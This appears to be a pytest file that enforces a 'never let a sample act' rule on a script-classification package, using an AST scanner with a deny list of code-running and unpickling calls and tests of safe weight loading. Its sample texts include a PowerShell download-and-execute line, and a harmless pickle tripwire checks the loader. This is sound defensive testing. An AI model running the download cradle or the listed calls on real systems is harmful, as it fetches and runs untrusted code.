"""Never let a sample act. The package source holds no call that can run code or unpickle data (eval, exec, compile,
dynamic imports, subprocesses, shells, pickle and friends) except a short allowlist, each entry with its reason and a
check that it stays as narrow as the reason says. trust_remote_code is off by default and loud when on; pickled
weights are refused unless the user sets model.allow_pickle_weights, and even then only tensors are unpickled."""
from __future__ import annotations

import ast
import json
import logging
import pickle
from pathlib import Path

import pytest
import torch
from typer.testing import CliRunner

import pipeline
from pipeline.cli import app
from pipeline.config import load_config

from .conftest import TINY_CONFIG

PACKAGE = Path(pipeline.__file__).parent
FORBIDDEN = {  # resolved call name -> what it can do with data handed to it
    "eval": "runs code", "exec": "runs code", "compile": "turns text into code", "__import__": "imports by name",
    "importlib.import_module": "imports by name", "importlib.__import__": "imports by name",
    "runpy.run_path": "runs a file", "runpy.run_module": "runs a module",
    "os.system": "shell", "os.popen": "shell", "pty.spawn": "runs a program",
    "pickle.load": "unpickling runs code", "pickle.loads": "unpickling runs code",
    "pickle.Unpickler": "unpickling runs code", "marshal.load": "loads code", "marshal.loads": "loads code",
    "shelve.open": "unpickles", "torch.load": "unpickles", "joblib.load": "unpickles", "dill.load": "unpickles",
    "dill.loads": "unpickles", "yaml.load": "builds Python objects", "yaml.unsafe_load": "builds Python objects",
    "yaml.full_load": "builds Python objects",
}
FORBIDDEN_PREFIXES = ("subprocess.", "os.exec", "os.spawn", "os.posix_spawn", "multiprocessing.popen")


def _stage_module_by_table(call: ast.Call) -> bool:
    """import_module(f"pipeline.stages.{name}"): a fixed package, the name from the runner's own STAGES table."""
    arg = call.args[0] if len(call.args) == 1 else None
    return isinstance(arg, ast.JoinedStr) and isinstance(arg.values[0], ast.Constant) and \
        arg.values[0].value == "pipeline.stages."


def _tensors_only(call: ast.Call) -> bool:
    """torch.load(..., weights_only=True): torch's restricted unpickler, which builds tensors and nothing else."""
    return any(k.arg == "weights_only" and isinstance(k.value, ast.Constant) and k.value.value is True
               for k in call.keywords)


ALLOWED = {  # (file, call) -> (reason, check every such call must pass)
    ("run/runner.py", "importlib.import_module"): (
        "loads a stage module by name from the STAGES table, never from input", _stage_module_by_table),
    ("model/head.py", "torch.load"): (
        "reads pytorch_model.bin only when model.allow_pickle_weights is set (test_model tests the refusal), and "
        "then with torch's tensors-only unpickler", _tensors_only),
}


def _aliases(tree: ast.AST) -> dict[str, str]:
    """Local name -> what it refers to, from every import in the module (`from os import system as s`: s ->
    os.system)."""
    names = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for a in node.names:
                names[a.asname or a.name.split(".")[0]] = a.name if a.asname else a.name.split(".")[0]
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            for a in node.names:
                names[a.asname or a.name] = f"{node.module}.{a.name}"
    return names


def _call_name(func: ast.expr, aliases: dict[str, str]) -> str | None:
    """The dotted name a call resolves to through the module's imports (`sp.run` -> subprocess.run), if any."""
    parts = []
    while isinstance(func, ast.Attribute):
        parts.append(func.attr)
        func = func.value
    if not isinstance(func, ast.Name):
        return None  # a call on a computed object: `obj().method()`
    return ".".join([aliases.get(func.id, func.id), *reversed(parts)])


def dangerous_calls(source: str) -> list[tuple[int, str, ast.Call]]:
    """(line, resolved name, node) of every call in `source` to something in FORBIDDEN."""
    tree = ast.parse(source)
    aliases = _aliases(tree)
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = _call_name(node.func, aliases)
            if name and (name in FORBIDDEN or name.startswith(FORBIDDEN_PREFIXES)):
                found.append((node.lineno, name, node))
    return found


def test_the_scanner_sees_through_imports_and_aliases():
    source = ("import subprocess as sp\nfrom os import system\nfrom importlib import import_module\nimport pickle\n"
              "sp.run(x)\nsystem(x)\nimport_module(x)\npickle.loads(x)\neval(x)\nre.compile(x)\nyaml.safe_load(x)\n")
    assert [name for _, name, _ in dangerous_calls(source)] == \
        ["subprocess.run", "os.system", "importlib.import_module", "pickle.loads", "eval"]


def test_no_call_can_run_or_unpickle_data_outside_the_allowlist():
    seen, problems = set(), []
    for path in sorted(PACKAGE.rglob("*.py")):
        rel = path.relative_to(PACKAGE).as_posix()
        for line, name, call in dangerous_calls(path.read_text(encoding="utf-8")):
            allowed = ALLOWED.get((rel, name))
            if allowed is None:
                problems.append(f"pipeline/{rel}:{line}: {name} ({FORBIDDEN.get(name, 'runs programs')})")
            elif not allowed[1](call):
                problems.append(f"pipeline/{rel}:{line}: {name} is allowed only as: {allowed[1].__doc__}")
            seen.add((rel, name))
    assert not problems, "\n".join(problems)
    assert seen == set(ALLOWED), f"allowlist entries no longer needed: {set(ALLOWED) - seen}"


# ---- model loading ---------------------------------------------------------------------------------------------
TEXTS = ["Write-Host 'hello'", "iex (New-Object Net.WebClient).DownloadString('http://x')", "echo hi", "ls -la"]
MAX_LEN = 64


def _tiny(**kw):
    from .model_configs import load_tiny

    return load_tiny(TEXTS, MAX_LEN, "full", **kw)


def test_trust_remote_code_is_off_by_default_and_loud_when_on(caplog):
    assert load_config().model.trust_remote_code is False and load_config(TINY_CONFIG).model.trust_remote_code is False
    with caplog.at_level(logging.INFO, logger="pipeline.model.backends"):
        _tiny()
        assert not any("trust_remote_code" in r.getMessage() for r in caplog.records)
        _tiny(trust_remote_code=True)
    loud = [r for r in caplog.records if "trust_remote_code" in r.getMessage()]
    assert loud and all(r.levelno == logging.WARNING for r in loud)


class _Tripwire:
    """Unpickling this calls `_trip`: a loader that builds anything but tensors would set `built`."""
    built = False

    def __reduce__(self):
        return (_trip, ())


def _trip():
    _Tripwire.built = True


def test_pickled_weights_need_the_flag_and_even_then_load_tensors_only(tmp_path):
    from safetensors.torch import load_file

    from pipeline.model.classifier import Classifier

    model, tokenizer, _ = _tiny()
    clf = Classifier.save(model, tokenizer, tmp_path / "clf", base_model=None, max_length=MAX_LEN, head_ratio=0.75)
    torch.save(load_file(clf / "model.safetensors"), clf / "pytorch_model.bin")  # a pickle checkpoint, as old tools
    (clf / "model.safetensors").unlink()
    script = tmp_path / "x.ps1"
    script.write_text("Write-Host 'hello'\n")
    predict = ["predict", str(script), "--model", str(clf), "--config", str(TINY_CONFIG), "--format", "jsonl"]

    refused = CliRunner().invoke(app, predict)
    assert refused.exit_code == 1 and "--set model.allow_pickle_weights=true" in " ".join(refused.output.split())
    allowed = CliRunner().invoke(app, [*predict, "--set", "model.allow_pickle_weights=true"])
    assert allowed.exit_code == 0, allowed.output
    assert [json.loads(l)["score"] is not None for l in allowed.output.splitlines() if l.startswith("{")] == [True]

    torch.save({"model.embed_tokens.weight": _Tripwire()}, clf / "pytorch_model.bin")
    with pytest.raises(pickle.UnpicklingError):
        Classifier.load(clf, allow_pickle=True)
    assert not _Tripwire.built
